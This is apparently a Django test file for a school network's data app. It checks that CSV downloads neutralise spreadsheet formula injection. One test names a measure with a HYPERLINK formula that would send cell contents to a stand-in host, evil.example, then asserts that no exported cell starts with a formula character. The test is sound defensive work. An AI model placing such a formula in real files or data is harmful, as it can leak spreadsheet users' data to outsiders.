"""Issue 13: every published figure passes disclosure control, and downloads are safe to open.

Each test plays an attack as an outsider (any member of the network) would, through the pages,
CSV files and the API, and shows that it no longer recovers a hidden figure.
"""

import csv
import io

from django.test import Client
from django.urls import reverse

from netlearn.impact import services

from .factories import import_csv, school_csv


def client_for(person) -> Client:
    client = Client()
    client.force_login(person)
    return client


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


# CSV downloads (item 8) ----------------------------------------------------------------------


def test_a_measure_named_like_a_formula_heads_its_column_as_text_and_empty_cells_stay_empty(
    world,
):
    measure = services.define_measure(
        network=world.network,
        by=world.co_leader,
        name='=HYPERLINK("https://evil.example/?"&A1,"Reading")',
        code="reading-evil",
        unit="%",
    )
    a, b, c = (s.reference for s in (world.school_a, world.school_b, world.school_c))
    # Alder's disadvantage is not known: its cell is empty, not a lone apostrophe.
    text = school_csv(
        [
            (a, 2024, 61.0, 31, None, 1, 1),
            (b, 2024, -2.0, 40, 1, 1, 1),
            (c, 2024, 63.0, 58, 1, 1, 1),
        ]
    )
    dataset = import_csv(world.network, by=world.data_lead, text=text, measure=measure)
    rows = read_csv(client_for(world.teacher).get(reverse("impact:schools_csv", args=[dataset.pk])))
    assert rows[0][2] == "'" + measure.name
    by_school = {row[0]: row for row in rows[1:]}
    assert by_school["Alder Primary"][4] == ""
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
